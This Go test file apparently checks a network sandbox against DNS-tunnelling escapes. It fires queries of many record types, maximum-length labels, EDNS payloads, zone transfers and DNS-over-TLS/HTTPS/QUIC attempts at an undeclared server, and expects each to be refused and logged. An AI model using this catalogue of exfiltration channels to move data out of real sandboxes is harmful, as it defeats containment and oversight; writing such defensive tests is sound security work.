package bypass

import (
	"errors"
	"net/netip"
	"os"
	"strings"

	"github.com/miekg/dns"
)

// dnsGroup: the sandbox's DNS as a tunnel (row 4). The far end is looked at twice:
// no packet to any server, and no question at the resolver but for open names.
func dnsGroup() group {
	return group{name: "dns", runner: client, attempts: dnsAttempts}
}

// foreignServer is a server that the sandbox was not told of.
const foreignServer = "198.51.100.253"

func dnsAttempts() []attempt {
	undeclared := func() told { return told{reason: "undeclared_name", mode: "dns"} }
	refused := func() told { return told{reason: "question_refused", mode: "dns"} }
	at := func(network string, kind uint16) func(*intruder) string {
		return func(in *intruder) string { return askFor(network, foreignServer, in.bad, kind) }
	}
	const no = "NXDOMAIN REFUSED"
	return []attempt{
		{row: 4, name: "a", try: at("udp", dns.TypeA), want: no, told: undeclared()},
		{row: 4, name: "txt", try: at("udp", dns.TypeTXT), want: no, told: undeclared()},
		{row: 4, name: "null", try: at("udp", dns.TypeNULL), want: no, told: undeclared()},
		{row: 4, name: "cname", try: at("udp", dns.TypeCNAME), want: no, told: undeclared()},
		{row: 4, name: "mx", try: at("udp", dns.TypeMX), want: no, told: undeclared()},
		{row: 4, name: "https", try: at("udp", dns.TypeHTTPS), want: no, told: undeclared()},
		{row: 4, name: "any", try: at("udp", dns.TypeANY), want: no, told: refused()},
		{row: 4, name: "axfr", try: at("tcp", dns.TypeAXFR), want: no, told: refused()},
		{row: 4, name: "tcp", try: at("tcp", dns.TypeA), want: no, told: undeclared()},
		{row: 4, name: "udp_v6", want: no, told: undeclared(),
			try: func(in *intruder) string { return askFor("udp", "2001:db8::53", in.bad, dns.TypeA) }},
		{row: 4, name: "loopback_server", want: no, told: undeclared(),
			try: func(in *intruder) string { return askFor("udp", "127.0.0.53", in.bad, dns.TypeA) }},
		{row: 4, name: "mapped_server", want: no, told: undeclared(),
			try: func(in *intruder) string { return askFor("udp", "::ffff:198.51.100.253", in.bad, dns.TypeA) }},
		{row: 4, name: "long_labels", want: no, told: told{reason: "undeclared_name", mode: "dns", host: longName("denied.test")},
			try: func(*intruder) string {
				return askFor("udp", foreignServer, longName("denied.test"), dns.TypeTXT)
			}},
		{row: 4, name: "below_open_name", want: no, told: undeclaredBelow(),
			try: func(in *intruder) string { return askFor("udp", foreignServer, "a.below.open.test", dns.TypeA) }},
		// Open names have addresses, and nothing else that could carry or lead.
		{row: 4, name: "open_https", want: "NODATA",
			try: func(in *intruder) string { return askFor("udp", foreignServer, in.open, dns.TypeHTTPS) }},
		{row: 4, name: "open_svcb", want: "NODATA",
			try: func(in *intruder) string { return askFor("udp", foreignServer, in.open, dns.TypeSVCB) }},
		{row: 4, name: "open_txt", want: "NODATA",
			try: func(in *intruder) string { return askFor("udp", foreignServer, in.open, dns.TypeTXT) }},
		{row: 4, name: "chaos", want: no, told: refused(), try: func(in *intruder) string {
			m := question(in.bad, dns.TypeTXT)
			m.Question[0].Qclass = dns.ClassCHAOS
			return exchange("udp", foreignServer, m)
		}},
		{row: 4, name: "two_questions", want: "REFUSED FORMERR", try: func(in *intruder) string {
			m := question(in.open, dns.TypeA)
			m.Question = append(m.Question, dns.Question{Name: dns.Fqdn(in.bad), Qtype: dns.TypeA, Qclass: dns.ClassINET})
			return exchange("udp", foreignServer, m)
		}},
		{row: 4, name: "update", want: "NOTIMP", try: func(in *intruder) string {
			m := new(dns.Msg).SetUpdate(dns.Fqdn(in.bad))
			return exchange("udp", foreignServer, m)
		}},
		{row: 4, name: "notify", want: "NOTIMP", try: func(in *intruder) string {
			return exchange("udp", foreignServer, new(dns.Msg).SetNotify(dns.Fqdn(in.bad)))
		}},
		{row: 4, name: "edns_option", want: no, told: undeclared(), try: func(in *intruder) string {
			m := question(in.bad, dns.TypeA)
			m.SetEdns0(4096, true)
			m.IsEdns0().Option = append(m.IsEdns0().Option, &dns.EDNS0_LOCAL{Code: dns.EDNS0LOCALSTART, Data: []byte(payload)})
			return exchange("udp", foreignServer, m)
		}},
		{row: 4, name: "not_dns_over_tcp", want: reset, try: func(in *intruder) string {
			return connect(in.v4, portDNS)
		}},
		{row: 4, name: "dot", want: reset, told: denied("no_endpoint"),
			try: func(in *intruder) string { return connect(in.v4, 853) }},
		{row: 4, name: "doh", want: reset, told: denied("no_endpoint"),
			try: func(in *intruder) string { return connect(in.v4, portHTTPS) }},
		{row: 4, name: "doq", want: "EPERM", told: byHook("udp"),
			try: func(in *intruder) string { return sendTo(netip.AddrPortFrom(in.v4, 853)) }},
		{row: 4, name: "mdns", want: "EPERM", told: udpTo("224.0.0.251"),
			try: func(*intruder) string { return sendTo(netip.MustParseAddrPort("224.0.0.251:5353")) }},
	}
}

func undeclaredBelow() told {
	return told{reason: "undeclared_name", mode: "dns", host: "a.below.open.test"}
}

// longName is as long as a name can be, most of it to carry something.
func longName(zone string) string {
	label := strings.Repeat("x", 63)
	return strings.Join([]string{label, label, label, zone}, ".")
}

func question(name string, kind uint16) *dns.Msg {
	return new(dns.Msg).SetQuestion(dns.Fqdn(name), kind)
}

func askFor(network, server, name string, kind uint16) string {
	return exchange(network, server, question(name, kind))
}

// exchange returns the answer's code, NODATA for success without an answer.
func exchange(network, server string, m *dns.Msg) string {
	client := dns.Client{Net: network, Timeout: ioTimeout, UDPSize: dns.MaxMsgSize}
	reply, _, err := client.Exchange(m, netip.AddrPortFrom(netip.MustParseAddr(server), portDNS).String())
	switch {
	case errors.Is(err, os.ErrDeadlineExceeded):
		return silent
	case err != nil:
		return word(unwrap(err))
	case reply.Rcode == dns.RcodeSuccess && len(reply.Answer) == 0:
		return "NODATA"
	}
	return dns.RcodeToString[reply.Rcode]
}
